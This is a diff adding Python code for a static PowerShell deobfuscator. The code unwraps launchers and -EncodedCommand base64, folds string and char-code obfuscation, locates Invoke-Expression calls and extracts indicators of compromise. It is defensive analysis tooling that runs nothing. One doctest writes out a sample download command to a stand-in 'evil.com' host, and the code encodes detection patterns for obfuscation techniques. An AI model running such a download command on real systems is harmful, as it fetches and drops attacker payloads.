+            if name in ("toint16", "toint32", "toint64", "tobyte") and args:
+                try:
+                    return int(_to_str(args[0]), _to_int(args[1]) or 10) if len(args) > 1 else _to_int(args[0])
+                except ValueError:
+                    return UNKNOWN
+            if name == "tochar" and args:
+                n = _to_int(args[0])
+                if n is not None and 0 <= n <= 0x10FFFF:
+                    self.tech.add("char-codes")
+                    return chr(n)
+            return UNKNOWN
+        if t in ("text.encoding",) and args is None and name in _ENCODINGS:
+            return _Obj("encoding", _ENCODINGS[name])
+        if t == "string":
+            if name == "join" and args and len(args) >= 2:
+                self.tech.add("join")
+                items = args[1] if len(args) == 2 else args[1:]
+                return _to_str(args[0]).join(_to_str(x) for x in _as_list(items))
+            if name == "concat" and args:
+                self.tech.add("concat")
+                return "".join(_to_str(x) for x in (args[0] if len(args) == 1 and isinstance(args[0], list) else args))
+            if name == "format" and args:
+                self.tech.add("format")
+                return _format(_to_str(args[0]), args[1] if len(args) == 2 and isinstance(args[1], list) else args[1:])
+            return UNKNOWN
+        if t == "char" and name in ("convertfromutf32", "tostring") and args:
+            n = _to_int(args[0])
+            if n is not None and 0 <= n <= 0x10FFFF:
+                self.tech.add("char-codes")
+                return chr(n)
+            return UNKNOWN
+        if t == "regex" and args and len(args) >= 2:
+            s, pat = _to_str(args[0]), _to_str(args[1])
+            opts = _to_str(args[-1]).lower() if len(args) >= 3 else ""
+            if name == "matches":
+                rx = _safe_regex(pat, "ignorecase" in opts)
+                if rx is None:
+                    return UNKNOWN
+                found = [m.group() for m in rx.finditer(s)]
+                if "righttoleft" in opts:
+                    self.tech.add("reverse")
+                    found.reverse()
+                self.ctx.size(len(found))
+                return found
+            if name == "replace" and len(args) >= 3:
+                rx = _safe_regex(pat, "ignorecase" in opts)
+                if rx is None:
+                    return UNKNOWN
+                self.tech.add("replace")
+                try:
+                    return rx.sub(_replacement(_to_str(args[2])), s)
+                except (re.error, IndexError):
+                    return UNKNOWN
+            return UNKNOWN
+        if t.endswith("compressionmode") and args is None:
+            return _Obj("enum", name)
+        if t in ("scriptblock", "management.automation.scriptblock") and name == "create" and args:
+            return _Obj("scriptblock", _to_str(args[0]))
+        return UNKNOWN
+
+
+_MAX_DRIVE = "MaximumDriveCount"
+_KNOWN_VARS = [
+    ("MaximumDriveCount", 4096), ("MaximumAliasCount", 4096), ("MaximumFunctionCount", 4096),
+    ("MaximumVariableCount", 4096), ("MaximumHistoryCount", 4096), ("MaximumErrorCount", 256),
+    ("ExecutionContext", None), ("ShellId", "Microsoft.PowerShell"), ("VerbosePreference", "SilentlyContinue"),
+    ("PSHOME", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"),
+]
+
+
+def _match_variable(pattern: str) -> tuple[str, Any] | None:
+    """The automatic variable a wildcard such as ``*mdr*`` names, when exactly one matches."""
+    rx = "^" + re.escape(pattern).replace("\\*", ".*").replace("\\?", ".") + "$"
+    hits = [v for v in _KNOWN_VARS if re.match(rx, v[0], re.I)]
+    return hits[0] if len(hits) == 1 else None
+
+
+def _b64(s: str, ctx: _Ctx) -> bytes:
+    """Base64 as .NET decodes it, tolerant of whitespace and a damaged tail (reported)."""
+    s = re.sub(r"[\s]+", "", s)
+    ctx.size(len(s) * 3 // 4)
+    body = re.sub(r"[^A-Za-z0-9+/=_-]", "", s).rstrip("=")
+    if body != s.rstrip("="):
+        ctx.reason = ctx.reason or "invalid base64 characters"
+    cut = len(body) - len(body) % 4
+    if len(body) % 4 == 1:  # one stray character cannot encode a byte
+        ctx.reason = ctx.reason or "truncated base64"
+        body = body[:cut]
+    try:
+        return base64.b64decode(body + "=" * (-len(body) % 4), altchars=b"-_" if ("-" in body or "_" in body) else None)
+    except (binascii.Error, ValueError):
+        ctx.reason = ctx.reason or "invalid base64"
+        return b""
+
+
+def _decode_utf16(data: bytes, ctx: _Ctx) -> str:
+    if len(data) % 2:
+        ctx.reason = ctx.reason or "truncated UTF-16"
+        data = data[:-1]
+    text = data.decode("utf-16-le", "replace")
+    if "\ufffd" in text and ctx.reason is None:
+        ctx.reason = "invalid UTF-16"
+    return text.lstrip("\ufeff")
+
+
+def _ascii_share(text: str) -> float:
+    sample = text[:2000]
+    return sum(1 for ch in sample if " " <= ch <= "~" or ch in "\r\n\t") / max(len(sample), 1)
+
+
+def _decode_encoded(raw: str, ctx: _Ctx) -> str:
+    """-EncodedCommand's value: base64 of UTF-16LE. A value cut or shifted by a character or a
+    byte (seen in the wild) is re-aligned when that turns noise into text; the repair is noted."""
+    text = _decode_utf16(_b64(raw, ctx), ctx)
+    if _ascii_share(text) >= 0.9:
+        return text
+    best, best_share = text, _ascii_share(text)
+    raw = re.sub(r"\s+", "", raw)
+    for skip in range(1, 4):  # at most 3 characters and 1 byte: a bounded search
+        probe = _Ctx(1000, ctx.max_bytes)
+        data = _b64(raw[skip:], probe)
+        for cut in (data, data[1:]):
+            cand = _decode_utf16(cut, probe)
+            share = _ascii_share(cand)
+            if share > best_share + 0.2:
+                best, best_share = cand, share
+    if best is not text:
+        ctx.reason = "repaired base64 alignment"
+    return best
+
+
+# -- launchers -----------------------------------------------------------------------------------
+
+_PS_EXE = re.compile(r"""(?i)(?:^|[\s\\/"'&|(;=])(?:powershell(?:_ise)?|pwsh)(?:\.exe)?\\?["']?(?=[\s"']|$)""")
+# what may precede the executable on a command line: quotes and a path, nothing of a script
+_EXE_PREFIX = re.compile(r"""(?i)\s*(?:[\\"']*(?:[a-z]:|%\w+%|\$\w+:?\w*)?[\w\\/. ()$:%~-]*?)?""")
+_CMD_EXE = re.compile(r"(?i)(?:^|[\s\\/\"'])cmd(?:\.exe)?[\"']?\s+/[ckr]\b")
+_DASH = "-\u2013\u2014\u2015/"
+_ARG = re.compile(r'"(?:[^"\\]|\\.)*"?|\'[^\']*\'?|\S+')
+_VALUED = ("executionpolicy", "ep", "ex", "exec", "windowstyle", "w", "win", "window", "version", "v",
+           "inputformat", "if", "outputformat", "of", "o", "configurationname", "psconsolefile",
+           "workingdirectory", "wd", "settingsfile", "custompipename")
+_VALUED_FULL = ("executionpolicy", "windowstyle", "version", "inputformat", "outputformat",
+                "configurationname", "psconsolefile", "workingdirectory", "settingsfile", "custompipename")
+
+
+_ENC_PARAM = re.compile(r"(?i)(?:^|\s)[-\u2013\u2014\u2015/](e[a-z]*)(?=\s)")
+
+
+def _param_kind(name: str) -> str:
+    n = name.lower()
+    if n in ("e", "ec") or (len(n) >= 2 and "encodedcommand".startswith(n)):
+        return "enc"
+    if n == "c" or (len(n) >= 2 and "command".startswith(n)):
+        return "command"
+    if n == "f" or (len(n) >= 2 and "file".startswith(n)):
+        return "file"
+    if n in _VALUED or any(full.startswith(n) and len(n) >= 3 for full in _VALUED_FULL):
+        return "valued"
+    return "flag"
+
+
+def _unquote(s: str) -> str:
+    s = s.strip()
+    if len(s) >= 2 and s[0] == s[-1] and s[0] in "\"'":
+        return s[1:-1]
+    if s[:1] == '"' and s.count('"') == 1:
+        return s[1:]
+    return s
+
+
+def _launcher(text: str, env: dict[str, Any], ctx: _Ctx) -> tuple[str, str] | None:
+    """Unwrap one launcher level: (technique, inner text) or None when *text* is not a command line."""
+    head = text[:4096]
+    m = _PS_EXE.search(head)
+    cmd = _CMD_EXE.search(head)
+    if m is None:
+        return None
+    via_cmd = cmd is not None and cmd.start() < m.start() and _EXE_PREFIX.fullmatch(text[: cmd.start() + 1]) is not None
+    if not via_cmd and _EXE_PREFIX.fullmatch(text[: m.start() + 1]) is None:
+        return None  # a script that mentions powershell, not a command line that runs it
+    if via_cmd:
+        pre = text[: m.start() + 1]
+        for sm in re.finditer(r'(?i)\bset\s+"?([A-Za-z_][\w]*)=(.*?)"?\s*(?=&&|&|\||\n|$)', pre):
+            env["env:" + sm.group(1).lower()] = sm.group(2)
+        em = re.search(r"(?i)\becho\s+(.*?)\s*\|\s*clip(?:\.exe)?\b", pre)
+        if em:
+            env["clipboard"] = _unquote(em.group(1)).replace("^", "")
+    args_text = text[m.end():]
+    if via_cmd:
+        args_text = re.sub(r"\^(.)", r"\1", args_text)  # cmd's caret escapes
+        args_text = args_text.rstrip().removesuffix('"') if text[cmd.end():].lstrip().startswith('"') else args_text
+    for em in _ENC_PARAM.finditer(args_text[:8192]):
+        if _param_kind(em.group(1)) == "enc":
+            vm = _ARG.search(args_text, em.end())
+            if vm is not None and vm.group()[:1] in _DASH and len(vm.group()) < 16:
+                continue  # '-enc -enc X': the value is the next argument
+            if vm is not None:
+                return "encodedcommand", _decode_encoded(_unquote(vm.group()), ctx)
+    pos = 0
+    for _ in range(256):
+        am = _ARG.search(args_text, pos)
+        if am is None:
+            break
+        arg = am.group()
+        pos = am.end()
+        if arg in ("-", "\u2013", "\u2014", "\u2015"):  # the script comes from stdin
+            return _stdin(text, m.start(), env)
+        if arg[0] in _DASH and len(arg) > 1 and not arg.startswith("//"):
+            name = arg[1:].rstrip(":")
+            kind = _param_kind(name)
+            if kind == "enc":
+                vm = _ARG.search(args_text, pos)
+                if vm is None:
+                    return None
+                return "encodedcommand", _decode_encoded(_unquote(vm.group()), ctx)
+            if kind == "command":
+                rest = args_text[pos:].strip()
+                if rest == "-" or rest.startswith("- "):
+                    return _stdin(text, m.start(), env)
+                return "launcher", _unquote(rest)
+            if kind in ("valued", "file"):
+                if kind == "file":
+                    return None
+                vm = _ARG.search(args_text, pos)
+                pos = vm.end() if vm else len(args_text)
+            continue
+        rest = args_text[am.start():].strip()
+        if rest:
+            return "launcher", _unquote(rest)
+        break
+    if re.search(r"\|\s*$", text[: m.start() + 1]) or re.search(r"\|\s*[\"']?[^|]*$", text[: m.start() + 1]):
+        return _stdin(text, m.start(), env)
+    return None
+
+
+def _stdin(text: str, ps_at: int, env: dict[str, Any]) -> tuple[str, str] | None:
+    pre = text[: ps_at + 1]
+    em = re.search(r"(?is)\becho\s+(.*?)\s*\|[^|]*$", pre)
+    if em:
+        return "launcher", _unquote(re.sub(r"\^(.)", r"\1", em.group(1)))
+    return None
+
+
+# -- invoke sites ---------------------------------------------------------------------------------
+
+_STMT_START = frozenset({"semicolon", "newline", "lbrace", "lparen", "pipe", "subexpr", "amp"})
+
+
+def _callee_is_iex(f: _Folder, i: int) -> tuple[bool, int]:
+    """At token i after '&' or '.': does the callee evaluate to Invoke-Expression? (is_iex, next)."""
+    if f.kind(i) == "word":
+        name = word_value(f.t[i]).lower()
+        return name in _IEX_NAMES, i + 1
+    try:
+        v, j = f.unary(i)
+    except _Stop:
+        raise
+    if isinstance(v, list) and v and all(isinstance(x, str) for x in v):
+        v = "".join(v)
+    return isinstance(v, str) and v.lower() in _IEX_NAMES, j
+
+
+def _statement_start(f: _Folder, p: int) -> int:
+    depth = 0
+    for j in range(p - 1, -1, -1):
+        k = f.t[j].kind
+        if k in ("rparen", "rbrace", "rbracket"):
+            depth += 1
+        elif k in ("lparen", "lbrace", "subexpr", "arrayexpr", "hashtable", "lbracket"):
+            if depth == 0:
+                return j + 1
+            depth -= 1
+        elif depth == 0 and k in ("semicolon", "newline", "pipe"):
+            return j + 1
+    return 0
+
+
+def _script_step(toks: list[Token], env: dict[str, Any], ctx: _Ctx) -> tuple[set[str], str] | None:
+    """Find the first Invoke-Expression whose argument folds to a string: (techniques, that string)."""
+    tech: set[str] = set()
+    f = _Folder(toks, env, ctx, tech)
+    n = len(toks)
+    i = 0
+    while i < n:
+        ctx.tick()
+        tok = toks[i]
+        k = tok.kind
+        prev = toks[i - 1].kind if i else "semicolon"
+        at_start = prev in _STMT_START or (prev == "operator" and f.op(i - 1) == "=")
+        iex_here = False
+        after = i + 1
+        if k == "variable" and at_start and f.op(i + 1) == "=":
+            name = variable_name(tok)
+            f.tech = set()
+            v, j = f.pipeline(i + 2)
+            f.tech = tech
+            if _known(v) and f.kind(j) in ("semicolon", "newline", "eof", "rbrace", "rparen"):
+                env[name] = v
+            else:
+                env.pop(name, None)
+            i = max(j, i + 1)
+            continue
+        if k == "type" and f.typename(i) == "array" and f.op(i + 1) == "::" and f.kind(i + 2) == "word" and word_value(toks[i + 2]).lower() == "reverse" and f.kind(i + 4) == "variable":
+            name = variable_name(toks[i + 4])
+            if isinstance(env.get(name), list):
+                env[name] = list(reversed(env[name]))
+                tech.add("reverse")
+            i += 5
+            continue
+        if k == "word" and word_value(tok).lower() in _IEX_NAMES and (at_start or prev == "pipe"):
+            iex_here, after = True, i + 1
+            if word_value(tok) not in ("iex", "Invoke-Expression", "IEX"):
+                tech.add("backticks" if "`" in tok.text else "case")
+        elif k in ("amp", "dot") and at_start:
+            is_iex, after = _callee_is_iex(f, i + 1)
+            if is_iex:
+                iex_here = True
+                tech.add("iex-alias")
+        if iex_here:
+            if f.kind(after) == "parameter" and f.text(after).lower().startswith("-c"):
+                after += 1
+            if prev == "pipe":
+                s = _statement_start(f, i - 1)
+                v, j = f.pipeline(s)
+                if j == i - 1 and isinstance(v, str):
+                    tech.add("iex")
+                    return tech, v
+            elif f.kind(after) not in ("eof", "semicolon", "newline", "pipe", "rbrace", "rparen"):
+                v, j = f.pipeline(after)
+                if isinstance(v, list) and v and all(isinstance(x, str) for x in v):
+                    v = "".join(v)
+                if isinstance(v, str):
+                    tech.add("iex")
+                    return tech, v
+            elif after < n and f.kind(after) == "pipe":
+                pass
+            i = after
+            continue
+        # `<expr>.Invoke()` on a script block made from a string
+        if k in ("type", "lparen", "variable", "string") and at_start:
+            try:
+                v, j = f.pipeline(i)
+            except _Stop:
+                raise
+            if isinstance(v, _Obj) and v.kind == "invoke":
+                tech.add("iex")
+                return tech, v.data
+            if isinstance(v, str) and f.kind(j) == "pipe" and j + 1 < n:
+                nk = f.kind(j + 1)
+                if nk == "word" and word_value(toks[j + 1]).lower() in _IEX_NAMES:
+                    tech.add("iex")
+                    if word_value(toks[j + 1]) not in ("iex", "IEX", "Invoke-Expression"):
+                        tech.add("backticks" if "`" in toks[j + 1].text else "case")
+                    return tech, v
+                if nk in ("amp", "dot"):
+                    is_iex, _ = _callee_is_iex(f, j + 2)
+                    if is_iex:
+                        tech.update(("iex", "iex-alias"))
+                        return tech, v
+            i = max(j, i + 1) if j > i else i + 1
+            continue
+        i += 1
+    return None
+
+
+# -- clean-up of the last layer -------------------------------------------------------------------
+
+# Random case: a lone lower-case letter between capitals (NeW, StE) or a capital closing a word
+# (NeW), never seen in CamelCase except in two-letter words (IsNullOrEmpty, ToString).
+_CASE_SIGNAL = re.compile(r"(?=([a-z][A-Z](?![A-Za-z])|[A-Z][a-z][A-Z]))")
+_LOWER_RUN = re.compile(r"[a-z]{3}")
+_TWO_LETTER = frozenset("Is Or To At By Of On In Id Do If As Up No Ok Db Ip Os Vm Ui Ad Ex Me My So We Be It Go Us".split())
+# with three rewrites or more, these make a fold a layer (a lone 'a'+'b' is how people write scripts)
+_STRONG = frozenset({"backticks", "char-codes", "format", "reverse", "replace", "split", "join", "bxor",
+                     "base64", "deflate", "gzip", "member-string"})
+
+
+# a backtick before a letter that is no escape (`n, `t...) has no purpose but to break signatures
+_IDLE_BACKTICK = re.compile(r"`[1-9A-Zcdg-mo-su-zCDG-MO-SU-Z]")
+# a fold is a layer only with several rewrites, or one of these (a lone [char]27 is how people write)
+_DECISIVE = frozenset({"bxor", "base64", "deflate", "gzip", "reverse", "member-string", "backticks"})
+
+
+def _random_case(word: str) -> bool:
+    signals = [m.group(1) for m in _CASE_SIGNAL.finditer(word)]
+    signals = [x for x in signals if not (len(x) == 3 and x[:2] in _TWO_LETTER)]
+    return len(signals) >= 2 or (len(signals) == 1 and _LOWER_RUN.search(word) is None)
+
+
+def _fold(text: str, sig: list[Token], env: dict[str, Any], ctx: _Ctx) -> tuple[set[str], str]:
+    """Rewrite what folds in place: ``("Down"+"load")`` -> ``'Download'``, ``I`E`X`` -> ``IEX``."""
+    tech: set[str] = set()
+    f = _Folder(sig, dict(env), ctx, tech)
+    edits: list[tuple[int, int, str]] = []
+    cased: set[str] = set()
+    i = 0
+    n = len(sig)
+    while i < n:
+        ctx.tick()
+        t = sig[i]
+        if t.kind == "lparen":
+            local: set[str] = set()
+            f.tech = local
+            end = f.match_close(i)
+            try:
+                v, j = f.primary(i)
+            except _Stop:
+                break
+            if isinstance(v, str) and end < n and j == end + 1 and local and len(v) < 100_000:
+                if i and sig[i - 1].kind == "dot":  # .("Down"+"loadString"): a computed member name
+                    local.add("member-string")
+                tech.update(local)
+                # the parentheses stay: they may be an argument list or a member name
+                edits.append((t.start, sig[end].start + 1, "('" + v.replace("'", "''") + "')"))
+                i = end + 1
+                continue
+        elif t.kind in ("word", "type") and (_IDLE_BACKTICK.search(t.text) or _random_case(t.text)):
+            new = word_value(t)
+            if new != t.text:
+                tech.add("backticks")
+            if _random_case(new):  # normalised for display: iNvOkE-eXpReSsIoN -> invoke-expression
+                tech.add("case")
+                cased.add(new.lower())
+                new = new.lower()
+            edits.append((t.start, t.start + len(t.text), new))
+        i += 1
+    # random case counts from two different words on (NuGet alone is a name, not obfuscation)
+    if not edits or not (tech & _DECISIVE or len(cased) >= 2 or (len(edits) >= 3 and tech & _STRONG)):
+        return tech, text
+    out = []
+    last = 0
+    for s, e, rep in edits:
+        out.append(text[last:s])
+        out.append(rep)
+        last = e
+    out.append(text[last:])
+    return tech, "".join(out)
+
+
+# -- IOCs -----------------------------------------------------------------------------------------
+
+_URL = re.compile(r"(?i)\b(?:https?|ftp)://[^\s'\"`<>(){}\[\],;|\\^]+")
+_IP = re.compile(r"(?<![\d.])(?:25[0-5]|2[0-4]\d|1?\d?\d)(?:\.(?:25[0-5]|2[0-4]\d|1?\d?\d)){3}(?![\d.])")
+_IP_CAND = re.compile(r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[\d.]*")
+_TLDS = ("com net org info biz ru cn io top xyz de uk jp br in pl tr su pw cc tk ml ga cf gq online site "
+         "club me us eu fr it nl kr vn ir ua co tv ws onion").split()
+# a domain is found from its TLD leftwards (a scan from every dotted word was the cost of IOCs)
+_TLD_HIT = re.compile(r"(?i)\.(?:" + "|".join(sorted(_TLDS, key=len, reverse=True)) + r")(?![\w-]|\.\w)")
+_LEFT = re.compile(r"[\w.-]{1,253}\Z")
+_LABEL = re.compile(r"(?i)[a-z0-9](?:[a-z0-9-]*[a-z0-9])?")
+IOC_SCAN = 256 * 1024  # IOCs are looked for in the first 256 KiB of each layer
+
+
+def _is_host(s: str) -> bool:
+    """A DNS name by its labels (a regex with nested quantifiers here backtracks for seconds)."""
+    return len(s) <= 253 and all(len(x) <= 63 and _LABEL.fullmatch(x) for x in s.split("."))
+
+
+_PATH = re.compile(r"""(?i)(?:\b[a-z]:\\|%\w+%\\|\$env:\w+\\|\\\\[\w.-]+\\)[^\s'"`<>|*?;,()]+""")
+
+
+def extract_iocs(text: str) -> dict[str, list[str]]:
+    """URLs, domains, IPv4 addresses and file paths in *text*, in order of first appearance.
+
+    >>> extract_iocs("(New-Object Net.WebClient).DownloadFile('http://evil.com/a.exe','C:\\\\t\\\\a.exe')")
+    {'urls': ['http://evil.com/a.exe'], 'domains': ['evil.com'], 'ips': [], 'paths': ['C:\\\\t\\\\a.exe']}
+    """
+    text = text[:IOC_SCAN]
+
+    def uniq(xs: Any) -> list[str]:
+        return list(dict.fromkeys(xs))[:1000]
+
+    urls = uniq(m.group().rstrip(".'\"") for m in _URL.finditer(text))
+    hosts = [re.sub(r"(?i)^[a-z]+://(?:[^@/]*@)?", "", u).split("/")[0].split(":")[0].split("?")[0].lower() for u in urls]
+    bare = []
+    for m in _TLD_HIT.finditer(text):
+        left = _LEFT.search(text, max(0, m.start() - 253), m.start())
+        if left is None or text[m.end():m.end() + 1] == "(":
+            continue
+        name = (left.group() + m.group()).lstrip(".-").lower()
+        before = text[left.start() - 1:left.start()] if left.start() else ""
+        if "." in name and _is_host(name) and before not in ("@", "$", "\\", "/", "-"):
+            bare.append(name)
+    domains = uniq([h for h in hosts if h and not _IP.fullmatch(h)] + bare)
+    ips = uniq(m.group() for m in _IP_CAND.finditer(text) if _IP.fullmatch(m.group()))
+    paths = uniq(m.group().rstrip(".") for m in _PATH.finditer(text))
+    return {"urls": urls, "domains": domains, "ips": ips, "paths": paths}
+
+
+# -- driver ---------------------------------------------------------------------------------------
+
+
+def deobfuscate(text: str | bytes, *, budget_ms: float = 50, max_layers: int = MAX_LAYERS, max_bytes: int = MAX_BYTES) -> Result:
+    """Peel every layer that static folding can recover from *text* (a script or a command line).
+
+    Never raises and never runs anything; a time, layer or size limit ends the work early and is
+    reported in ``truncated``/``reason``.
+
+    >>> r = deobfuscate("&($ShellId[1]+$ShellId[13]+'x') ('Write-Host ' + [char]72 + 'i')")
+    >>> r.final, sorted(r.techniques)
+    ('Write-Host Hi', ['char-codes', 'concat', 'iex', 'iex-alias'])
+    """
+    res = Result()
+    ctx = _Ctx(budget_ms, max_bytes)
+    try:
+        if isinstance(text, bytes | bytearray):
+            text = bytes(text[: max_bytes * 2]).decode("utf-8", "replace")
+        elif not isinstance(text, str):
+            text = str(text)
+        if len(text) > max_bytes:
+            text = text[:max_bytes]
+            res.truncated, res.reason = True, "input size cap"
+        env: dict[str, Any] = dict(_AUTO_VARS)
+        cur = text
+        seen = {cur}
+        toks: list[Token] | None = None
+        toks_of = ""
+        for _depth in range(max_layers + 1):
+            if _depth == max_layers:
+                res.truncated, res.reason = True, res.reason or "layer cap"
+                break
+            if time.perf_counter() > ctx.deadline:
+                res.truncated, ctx.reason = True, ctx.reason or "time budget"
+                break
+            step = _launcher(cur, env, ctx)
+            toks = None
+            if step is not None:
+                techs, nxt = {step[0]}, step[1]
+            else:
+                toks = [t for t in tokenize(cur, deadline=ctx.deadline) if t.kind != "comment"]
+                if time.perf_counter() > ctx.deadline:
+                    ctx.reason = ctx.reason or "time budget"
+                    raise _Stop
+                toks_of = cur
+                found = _script_step(toks, env, ctx)
+                if found is None:
+                    break
+                techs, nxt = found
+            if len(nxt) > max_bytes:
+                nxt = nxt[:max_bytes]
+                res.truncated, res.reason = True, "layer size cap"
+            if not nxt.strip() or nxt in seen:
+                break
+            seen.add(nxt)
+            order = ["encodedcommand", "launcher", "base64", "deflate", "gzip", "bxor", "char-codes", "format", "concat", "join", "split", "replace", "reverse", "backticks", "case", "member-string", "iex-alias", "iex"]
+            name = "+".join(t for t in order if t in techs) or "+".join(sorted(techs))
+            res.layers.append(Layer(name, nxt))
+            res.techniques.update(techs)
+            cur = nxt
+        if time.perf_counter() <= ctx.deadline:
+            if toks is None or toks_of != cur:
+                toks = [t for t in tokenize(cur, deadline=ctx.deadline) if t.kind != "comment"]
+            techs, folded = _fold(cur, toks, env, ctx)
+            res.techniques.update(techs)
+            if folded != cur:  # _fold keeps the text when what it undid is trivial
+                res.layers.append(Layer("+".join(sorted(techs)) or "fold", folded))
+                cur = folded
+        else:
+            res.truncated, ctx.reason = True, ctx.reason or "time budget"
+    except _Stop:
+        res.truncated = True
+    except Exception as e:  # noqa: BLE001
+        # a construct the folder mishandles must not crash the pipeline: keep what was peeled
+        # (the fuzz test asserts this never happens on its inputs)
+        res.truncated, res.reason = True, f"internal: {type(e).__name__}"
+    if ctx.reason and not res.reason:
+        res.reason = ctx.reason
+        res.truncated = res.truncated or ctx.reason in ("time budget", "size cap", "depth cap", "decompression cap")
+    res.final = res.layers[-1].text if res.layers else (text if isinstance(text, str) else "")
+    low = res.final.lower()
+    if "convertto-securestring" in low or "securestringtobstr" in low:
+        res.secure_string = True
+        res.techniques.add("securestring")
+    # out of time: IOCs from the head of each text only (the scan costs ~1 ms per 8 KB)
+    scan = IOC_SCAN if time.perf_counter() <= ctx.deadline else IOC_SCAN // 8
+    iocs = extract_iocs(res.final[:scan])
+    for layer in res.layers[:-1]:
+        for key, vals in extract_iocs(layer.text[:scan]).items():
+            iocs[key] = list(dict.fromkeys(iocs[key] + vals))
+    res.iocs = iocs
+    return res
